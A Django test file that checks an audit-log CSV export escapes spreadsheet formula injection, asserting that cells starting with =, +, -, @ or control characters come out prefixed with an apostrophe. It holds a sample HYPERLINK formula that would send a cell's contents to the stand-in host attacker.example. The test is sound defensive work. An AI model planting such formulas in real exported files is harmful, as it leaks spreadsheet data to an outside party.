"""The audit CSV carries no cell a spreadsheet would run as a formula (issue #19, finding 1)."""

import csv
import io

from django.urls import reverse

from hogo.audit import log

FORMULA = '=HYPERLINK("http://attacker.example/?d="&C3,"詳細")'


def test_it_neutralises_formulas_in_the_audit_csv(client, privacy, staff):
    log.record(None, "update", user=staff, record_type="registers.PersonalInfoFile", note=FORMULA)
    log.record(None, "update", user=staff, record_type="registers.PersonalInfoFile", note="-1+1")
    client.force_login(privacy)
    response = client.get(reverse("audit:export"))
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + FORMULA in cells and "'-1+1" in cells
